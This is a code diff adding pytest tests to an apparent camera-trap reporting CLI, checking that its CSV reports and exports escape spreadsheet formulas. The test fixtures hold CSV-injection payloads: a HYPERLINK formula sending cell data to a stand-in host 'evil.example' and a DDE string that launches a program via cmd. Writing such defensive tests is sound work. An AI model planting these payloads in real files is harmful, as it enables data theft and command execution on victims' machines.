@@ -15,7 +15,15 @@ from click.testing import CliRunner
 
 from edge_agent.cli import cli
 from edge_agent.config import TrapSettings
-from edge_agent.reports import Window, build_report, load, open_stores, parse_bound, period_of
+from edge_agent.reports import (
+    Window,
+    build_report,
+    load,
+    open_stores,
+    parse_bound,
+    period_of,
+    spreadsheet_safe,
+)
 from edge_agent.store import Store
 from tests.helpers.trap_databases import (
     MEADOW,
@@ -394,3 +402,51 @@ def test_the_rollup_agrees_with_the_events_in_local_days(traps):
         rollup[day] = rollup.get(day, 0) + count["count"]
     assert per_day == rollup == {"2024-06-01": 1, "2024-06-02": 4, "2024-06-03": 2}
     assert data.rows[0].end - data.rows[0].start == timedelta(seconds=42.5)
+
+
+# -- CSV for spreadsheets -------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.fixture
+def formula_trap(tmp_path):
+    """A foreign trap whose id and labels a spreadsheet would run as formulas."""
+    trap = TrapSettings(id="@SUM(1+1)", timezone="Europe/Berlin", latitude=1.0, longitude=1.0)
+    events = [
+        Planned("2024-06-01T10:00:00", {FORMULA: 2, "-2+3": 1, "deer": 1}),
+        Planned("2024-06-02T10:00:00", {"+cmd|' /C calc'!A0": 1, "\tdeer": 1}),
+    ]
+    return build_trap_db(tmp_path / "foreign.sqlite", trap, events)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(formula_trap, tmp_path):
+    labels = {FORMULA, "-2+3", "deer", "+cmd|' /C calc'!A0", "\tdeer"}
+    defused = {f"'{label}" if label != "deer" else label for label in labels}
+    result = invoke("report", "--db", formula_trap, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert {r["label"] for r in rows} == defused
+    assert {r["deployment"] for r in rows} == {"'@SUM(1+1)"}
+    assert {r["trap_id"] for r in rows} == {"'@SUM(1+1)"}
+    # numbers and times as they were
+    assert rows[0]["start"] == "2024-06-01T12:00:00+02:00" and rows[0]["id"] == "1"
+    assert {r["max_n"] for r in rows} == {"1", "2"}
+
+    grouped = invoke("report", "--db", formula_trap, "--by", "day", "--format", "csv")
+    assert {r["label"] for r in csv.DictReader(io.StringIO(grouped.stdout))} == defused
+
+    out = tmp_path / "sheets"
+    assert invoke("export", "csv", "--db", formula_trap, "--out", out).exit_code == 0
+    for name in ("events.csv", "counts.csv"):
+        with (out / name).open(encoding="utf-8") as handle:
+            written = list(csv.DictReader(handle))
+        assert {r["label"] for r in written} == defused, name
+        assert {r["deployment"] for r in written} == {"'@SUM(1+1)"}, name
+
+
+def test_numbers_negative_ones_included_and_times_are_not_touched():
+    for value in (-5, -0.25, 3, "-5", "-1.5", "+2", "-1e5", "2024-06-01T23:30:00-06:00", None):
+        assert spreadsheet_safe(value) == value
+    for value in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-"):
+        assert spreadsheet_safe(value) == "'" + value
